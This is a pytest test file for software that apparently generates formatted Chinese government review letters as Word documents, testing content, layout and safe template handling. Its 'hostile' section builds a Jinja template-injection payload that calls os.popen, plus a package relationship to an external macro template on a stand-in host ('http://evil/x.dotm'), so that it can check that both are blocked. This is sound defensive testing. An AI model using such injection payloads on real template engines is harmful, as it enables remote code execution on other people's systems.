"""The letter: what goes in and under which number, layout by GB/T 9704, reproducible bytes, nothing of a draft or a template runs."""

from __future__ import annotations

import importlib.util
import re
import zipfile
from dataclasses import replace
from datetime import date
from io import BytesIO

import docx
import pytest
from docx.oxml.ns import qn

from plancheck.model.report import DocumentInfo
from plancheck.render import json_v1
from plancheck.render.letter import LetterOptions, balanced, letter, refusals
from plancheck.resources import folder

from .reports import HOSTILE, B, many, sample_report, sample_results, single, sub, subject, with_results

FULL = LetterOptions(
    agency="某省发展和改革委员会",
    recipient="青岩市发展改革委",
    document_number="某发改环资函〔2026〕8号",
    incoming_number="青发改〔2026〕15号",
    date=date(2026, 11, 25),
    deadline=date(2026, 12, 31),
    contact="张三，010-00000000",
    copy_to="某省生态环境厅",
    draft=False,
    text_groups=("文字",),
)


def made(report=None, options=FULL, folders=()) -> bytes:
    out = letter(report or sample_report(), options, folders)
    assert isinstance(out, bytes), out
    return out


def opened(data: bytes):
    return docx.Document(BytesIO(data))


def lines(data: bytes) -> list[str]:
    return [paragraph.text for paragraph in opened(data).paragraphs if paragraph.text.strip()]


def table(data: bytes) -> list[list[str]]:
    found = opened(data).tables
    return [[cell.text for cell in row.cells] for row in found[0].rows] if found else []


def all_text(data: bytes) -> str:
    return "\n".join([*lines(data), *(cell for row in table(data) for cell in row)])


def passed_only():
    return tuple(each for each in sample_results() if each.outcome == "passed")


ALL_READ = {"attachments": ()}


def test_the_whole_letter():
    assert lines(made()) == [
        "某发改环资函〔2026〕8号",
        "关于《青岩市国家碳达峰试点实施方案》\n审核意见的函",
        "青岩市发展改革委：",
        "你单位报送的《青岩市国家碳达峰试点实施方案》（青发改〔2026〕15号）收悉。我们组织有关方面进行了审核，现将意见函告如下：",
        "一、总体意见",
        "经对照审核要点逐条审核，共审核13条，其中符合3条、不符合7条、需进一步核实2条、不适用1条。请结合下列意见作进一步修改完善。",
        "文件“附表.docx”有部分内容未能读取（有内容未读到），本函意见不包括这些内容。",
        "二、主要问题和修改意见",
        "（一）必须修改的问题",
        "1. 方案没有科技创新方面的章节。建议单设章节，写明绿色低碳技术攻关、示范应用和创新平台建设。",
        "2. “（五）促进交通运输绿色低碳发展”只有一般表述，没有具体举措。请补充充换电设施、公共交通、多式联运等方面的具体举措和规模。",
        "（二）应当修改的问题",
        "1. 新能源汽车渗透率缺少2030年目标值。建议在主要目标或指标表中补充2030年新能源汽车渗透率目标值。",
        "2. 6项任务中有2项没有写明责任单位。请逐项明确责任单位。",
        "3. 2025年新能源汽车渗透率正文为45%左右，指标表为50%（见“（三）主要目标”部分）。请核对并统一正文和指标表中的数值。",
        "三、其他文字性意见",
        "1. 没有写明碳排放核算边界。建议注明是否包含外购电力。",
        "2. 正文遗留“××”（见“（五）促进交通运输绿色低碳发展”部分）。请补全或删除。",
        "四、有关要求",
        "请认真研究上述意见，对方案作出修改完善，逐条说明采纳情况，并于2026年12月31日前将修改后的方案及《意见采纳情况表》报送我单位。",
        "附件：审核意见表",
        "某省发展和改革委员会",
        "2026年11月25日",
        "（联系人及电话：张三，010-00000000）",
        "抄送：某省生态环境厅。",
        "附件",
        "审核意见表",
    ]


def test_the_table_of_opinions():
    rows = table(made())
    assert rows[0] == ["序号", "审核要点", "依据", "审核结论", "问题描述", "原文位置及摘录", "修改建议", "备注"]
    assert [row[0] for row in rows[1:]] == [str(n) for n in range(1, 9)]
    assert rows[3] == [
        "3",
        "新能源汽车渗透率有各期限目标值（IND-C01）",
        "《碳达峰试点实施方案编制指南》（附件2公开摘要载明）",
        "不符合",
        "2030年：新能源汽车渗透率缺少2030年目标值",
        "查找范围：二、总体要求 > （三）主要目标、附表1 主要指标表",
        "建议在主要目标或指标表中补充2030年新能源汽车渗透率目标值",
        "应当修改",
    ]
    assert rows[6][5] == (
        "二、总体要求 > （三）主要目标  第6页，第31段：“新能源汽车渗透率达到45%左右”\n附表1 主要指标表  第22页，表1，第6行第4列：“50”"
    )


def test_a_report_that_was_read_back_gives_the_same_letter_but_for_the_strength_of_its_bases():
    read = json_v1.restored(json_v1.read_report(json_v1.report(sample_report())))
    options = replace(FULL, text_groups=())
    assert lines(made(read, options)) == lines(made(options=options))
    assert table(made(read, options))[3][2] == "《碳达峰试点实施方案编制指南》"


def test_a_draft_is_marked_and_lists_what_needs_a_person():
    data = made(options=replace(FULL, draft=True))
    assert "（草稿，未经审定）" in lines(data)
    remarks = {row[1]: (row[3], row[7]) for row in table(data)[1:]}
    assert remarks["试点为地级及以上城市（ELIG-01）"] == ("需人工核实（无参照值）", "发文前请核实")
    assert "需人工核实" not in all_text(made())


def test_what_is_not_given_is_a_bracketed_reminder():
    data = made(options=LetterOptions())
    text = all_text(data) + opened(data).sections[0].first_page_header.paragraphs[0].text
    for part in ("〔发文机关〕", "〔主送机关〕：", "〔发文字号〕", "〔成文日期〕", "〔报送期限〕", "〔联系人及电话〕"):
        assert part in text
    assert "抄送" not in text


@pytest.mark.parametrize(
    ("rules", "chapters"),
    [
        ((), ["一、总体意见", "二、有关要求"]),
        (("STR-05",), ["一、总体意见", "二、主要问题和修改意见", "三、有关要求"]),
        (("GOAL-13",), ["一、总体意见", "二、其他文字性意见", "三、有关要求"]),
        (("STR-05", "GOAL-13"), ["一、总体意见", "二、主要问题和修改意见", "三、其他文字性意见", "四、有关要求"]),
    ],
)
def test_chapters_close_up(rules, chapters):
    found = tuple(each for each in sample_results() if each.outcome == "passed" or each.rule in rules)
    assert [line for line in lines(made(with_results(found))) if re.match("[一二三四]、", line)] == chapters


def test_should_alone_is_group_one():
    found = tuple(each for each in sample_results() if each.rule == "GOAL-11")
    assert [line for line in lines(made(with_results(found))) if line.startswith("（")][:1] == ["（一）应当修改的问题"]


def test_nothing_to_change():
    data = made(with_results(passed_only(), **ALL_READ))
    text = all_text(data)
    assert "共审核3条，其中符合3条、不符合0条、需进一步核实0条、不适用0条。未发现需要修改的问题。" in text
    assert "附件" not in text
    assert table(data) == []
    assert len(opened(data).sections) == 1
    assert opened(data).sections[0].page_width.mm == pytest.approx(210, abs=0.1)
    assert "请按程序做好后续工作。" in lines(data)


def test_nothing_is_called_in_order_while_something_is_open():
    unsure = tuple(each for each in sample_results() if each.outcome in ("passed", "cantTell"))
    for report in (with_results(unsure, **ALL_READ), with_results(passed_only())):
        text = all_text(made(report))
        assert "未发现需要修改的问题" not in text
        assert "请就上述未审核或者需进一步核实的内容补充材料" in text


def test_a_kind_word_only_where_the_facts_allow_it():
    fine = tuple(replace(each, group=B("工作基础", "Baseline")) for each in passed_only())
    assert "《青岩市国家碳达峰试点实施方案》在工作基础等方面内容较为完整。" in lines(made(with_results(fine)))
    assert "较为完整" not in all_text(made())


BROKEN = single("X-1", B("坏规则", "broken"), "must", "practice", "error", B("未能审核", "not checked"), reason="limit")
UNREAD = DocumentInfo("方案.docx", "00" * 32, "docx", None, "not_checked", "encrypted", B("有密码", "password"))


@pytest.mark.parametrize(
    ("report", "message", "said"),
    [
        (
            with_results((*sample_results(), BROKEN)),
            "有 1 条审核要点未能审核，不能据此发函",
            "以下审核要点未能审核，本函意见不包括这些内容：“坏规则”。",
        ),
        (with_results((), document=UNREAD), "文件未能读取，不能据此发函", "文件“方案.docx”未能读取（文件有密码），未作审核。"),
        (
            replace(sample_report(), attachments=(replace(UNREAD, name="附表.docx"),)),
            "文件未能读取，不能据此发函",
            "文件“附表.docx”未能读取（文件有密码），未作审核。",
        ),
    ],
)
def test_refused_unless_confirmed(report, message, said):
    refused = letter(report, FULL)
    assert isinstance(refused, tuple)
    assert [(each.code, each.message.zh) for each in refused] == [("letter-refused", message)]
    assert refused == refusals(report)
    data = made(report, replace(FULL, confirmed=True))
    assert said in lines(data)
    assert "未发现需要修改的问题" not in all_text(data)


# --- layout -----------------------------------------------------------------------------------------------------------------


def test_page_and_grid():
    first, annex = opened(made()).sections
    sizes = (first.page_width, first.page_height, first.top_margin, first.bottom_margin, first.left_margin, first.right_margin)
    assert [round(each.mm) for each in sizes] == [210, 297, 37, 35, 28, 26]
    assert (round(first.header_distance.mm), round(first.footer_distance.mm)) == (30, 20)
    grid = first._sectPr.find(qn("w:docGrid"))
    assert (grid.get(qn("w:type")), grid.get(qn("w:linePitch"))) == ("linesAndChars", "580")
    assert first.different_first_page_header_footer
    assert not annex.different_first_page_header_footer
    assert (round(annex.page_width.mm), round(annex.page_height.mm), annex.orientation) == (297, 210, 1)


@pytest.mark.parametrize(
    ("start", "font", "size"),
    [
        ("关于《", "方正小标宋简体", 22),
        ("一、", "黑体", 16),
        ("（一）", "楷体_GB2312", 16),
        ("1. ", "仿宋_GB2312", 16),
        ("你单位", "仿宋_GB2312", 16),
    ],
)
def test_fonts_by_the_standard(start, font, size):
    paragraph = next(each for each in opened(made()).paragraphs if each.text.startswith(start))
    names = paragraph.runs[0]._element.rPr.find(qn("w:rFonts"))
    assert names.get(qn("w:eastAsia")) == font
    assert names.get(qn("w:ascii")) == "Times New Roman"
    assert paragraph.runs[0].font.size.pt == size


def test_text_is_set_28_95_points_and_two_characters_in():
    paragraph = next(each for each in opened(made()).paragraphs if each.text.startswith("你单位"))
    assert paragraph.paragraph_format.line_spacing.pt == pytest.approx(28.95)
    assert paragraph._p.pPr.find(qn("w:ind")).get(qn("w:firstLineChars")) == "200"
    day = next(each for each in opened(made()).paragraphs if each.text == "2026年11月25日")
    assert day._p.pPr.find(qn("w:ind")).get(qn("w:rightChars")) == "400"


def test_red_lines_and_name():
    section = opened(made()).sections[0]
    name, line = section.first_page_header.paragraphs
    assert name.text == "某省发展和改革委员会"
    assert str(name.runs[0].font.color.rgb) == "FF0000"
    for paragraph, kind in ((line, "thickThinSmallGap"), (section.first_page_footer.paragraphs[0], "thinThickSmallGap")):
        bottom = paragraph._p.pPr.find(qn("w:pBdr")).find(qn("w:bottom"))
        assert (bottom.get(qn("w:val")), bottom.get(qn("w:color"))) == (kind, "FF0000")
        wide = 156 - paragraph.paragraph_format.left_indent.mm - paragraph.paragraph_format.right_indent.mm
        assert wide == pytest.approx(170, abs=0.1)


def test_a_long_name_is_set_smaller():
    data = made(options=replace(FULL, agency="某某省发展和改革委员会应对气候变化处"))
    name = opened(data).sections[0].first_page_header.paragraphs[0]
    assert name.runs[0].font.size.pt == 22


def test_no_page_number_on_page_one_then_dashes():
    section = opened(made()).sections[0]
    assert section.first_page_footer.paragraphs[0].text == ""
    for footer in (section.footer, section.even_page_footer):
        assert footer.paragraphs[0].text == "—  —"
        assert [each.text for each in footer._element.iter(qn("w:instrText"))] == [" PAGE "]


def test_the_header_row_repeats_and_rows_are_kept_whole():
    rows = opened(made()).tables[0]._tbl.tr_lst
    assert rows[0].trPr.find(qn("w:tblHeader")) is not None
    assert all(row.trPr.find(qn("w:cantSplit")) is not None for row in rows)
    widths = [int(each.get(qn("w:w"))) for each in opened(made()).tables[0]._tbl.tblGrid]
    assert len(widths) == 8
    assert len(set(widths)) > 4


def test_many_findings():
    data = made(many(200))
    assert len(table(data)) > 200
    numbers = [line for line in lines(data) if re.match(r"\d+\. ", line)]
    assert len(numbers) == 200


# --- bytes ------------------------------------------------------------------------------------------------------------------


def build_script():
    spec = importlib.util.spec_from_file_location("build_letter", folder("templates") / "build_letter.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_the_template_is_what_its_script_makes():
    script = build_script()
    assert script.build() == script.build()
    assert script.build() == (folder("templates") / "letter.docx").read_bytes()


def test_a_letter_has_the_same_bytes_twice_and_our_properties():
    assert made() == made()
    core = opened(made()).core_properties
    assert (core.author, core.title) == ("某省发展和改革委员会", "关于《青岩市国家碳达峰试点实施方案》审核意见的函")
    assert core.created.date() == date(2026, 11, 25)
    assert core.last_modified_by == "某省发展和改革委员会"


@pytest.mark.parametrize(
    "title",
    [
        "关于《甲》审核意见的函",
        "关于《某某自治州国家级经济技术开发区低碳发展实施方案》审核意见的函",
        "关于《" + "甲" * 70 + "》审核意见的函",
        "关于《2030年前ABCDEFGHIJKLMNOP实施方案》审核意见的函",
    ],
)
def test_titles_are_parted_well(title):
    found = balanced(title).split("\n")
    assert "".join(found) == title
    assert all(len(line) <= 20 for line in found)
    assert not any(line[0] in "》、，的" or line[-1] in "《（" for line in found)


# --- hostile ----------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_draft_text_stays_text(text):
    both = B(text, text)
    bad = sub("H", subject("x", "x", text, text), "failed", both, both)
    base = next(each for each in sample_results() if each.rule == "GOAL-11")
    bad = replace(bad, evidence=tuple(replace(each, quote=text) for each in base.subresults[0].evidence))
    result = replace(base, title=both, message=both, advice=both, source=both, subresults=(bad,))
    report = with_results((result,), plan=replace(sample_report().plan, title=text))
    data = made(report, replace(FULL, recipient=text, contact=text))
    expected = re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u202e\u200b]", "", text)
    assert table(data)[1][4] == expected
    assert f"“{expected}”" in table(data)[1][5]
    with zipfile.ZipFile(BytesIO(data)) as package:
        document = package.read("word/document.xml").decode()
        assert "fldSimple" not in re.sub(r"<w:t[ >].*?</w:t>", "", document, flags=re.DOTALL)
        assert package.testzip() is None


def test_braces_that_docxtpl_would_turn_stay_as_they_are():
    text = "{_{ x }_} {_% y %_} {{ cycler.__init__ }}"
    data = made(sample_report(plan=replace(sample_report().plan, title=text)))
    assert f"你单位报送的《{text}》" in all_text(data)


def template_with(tmp_path, text="", header="", title=""):
    """An office's template that says `text`."""
    document = docx.Document()
    document.add_paragraph(text)
    document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    document.save(tmp_path / "letter.docx")
    return [tmp_path]


def test_an_office_template_comes_first(tmp_path):
    data = made(folders=template_with(tmp_path, "致{{ 主送机关 }}：{% for 项 in 意见表 %}{{ 项.编号 }} {% endfor %}"))
    assert lines(data)[0].startswith("致青岩市发展改革委：STR-05 TASK-C5 IND-C01")


def canary(tmp_path) -> str:
    return "{{ cycler.__init__.__globals__.os.popen('touch " + str(tmp_path / "canary") + "').read() }}"


@pytest.mark.parametrize("where", ["text", "header", "title"])
def test_a_template_runs_nothing(tmp_path, where):
    out = letter(sample_report(), FULL, template_with(tmp_path, **{where: canary(tmp_path)}))
    assert isinstance(out, tuple)
    assert [each.code for each in out] == ["letter-template"]
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize(
    ("text", "said", "near"),
    [
        ("致{{ 主送机管 }}", "模板中的变量 主送机管 不存在：致{{ 主送机管 }}", "是否应为：主送机关"),
        (
            "{% for 项 in 意见表 %}{{ 项.依剧 }}{% endfor %}",
            "模板中的变量 依剧 不存在：{% for 项 in 意见表 %}{{ 项.依剧 }}{% endfor %}",
            "是否应为：依据",
        ),
    ],
)
def test_a_misspelt_variable_is_named_with_its_paragraph(tmp_path, text, said, near):
    out = letter(sample_report(), FULL, template_with(tmp_path, text))
    assert isinstance(out, tuple)
    assert out[0].message.zh == said
    assert out[0].help is not None
    assert out[0].help.zh.startswith(near)


@pytest.mark.parametrize("text", ["{% for x in 意见表 %}", "{% nonsense %}", "{{ 1 / 0 }}", "{{ 意见表 + 1 }}", "{{ '甲' * 意见表 }}"])
def test_a_broken_tag_is_a_diagnostic(tmp_path, text):
    out = letter(sample_report(), FULL, template_with(tmp_path, text))
    assert isinstance(out, tuple)
    assert out[0].code == "letter-template"


def test_curly_quotes_and_split_tags_are_understood(tmp_path):
    document = docx.Document()
    paragraph = document.add_paragraph()
    for part in ("{", "{ 主送", "机关|default(“无”) }", "}"):
        paragraph.add_run(part)
    document.save(tmp_path / "letter.docx")
    assert lines(made(folders=[tmp_path])) == ["青岩市发展改革委"]


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, content)
    return out.getvalue()


def shipped() -> bytes:
    return (folder("templates") / "letter.docx").read_bytes()


OUTWARD = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://x/attachedTemplate"'
    b' Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
)
DOTM = b"application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "模板不是有效的 .docx 文件"),
        (b"\xd0\xcf\x11\xe0 old word", "模板不是有效的 .docx 文件"),
        (shipped()[:2000], "模板不是有效的 .docx 文件"),
        (with_part(shipped(), "word/vbaProject.bin", b"x"), "模板含有外部链接或宏，不能使用"),
        (with_part(shipped(), "word/_rels/settings.xml.rels", OUTWARD), "模板含有外部链接或宏，不能使用"),
        (
            with_part(
                shipped(), "[Content_Types].xml", zipfile.ZipFile(BytesIO(shipped())).read("[Content_Types].xml").replace(PLAIN, DOTM)
            ),
            "模板不是有效的 .docx 文件",
        ),
    ],
)
def test_unfit_templates_are_refused(tmp_path, data, message):
    (tmp_path / "letter.docx").write_bytes(data)
    out = letter(sample_report(), FULL, [tmp_path])
    assert isinstance(out, tuple)
    assert out[0].message.zh == message
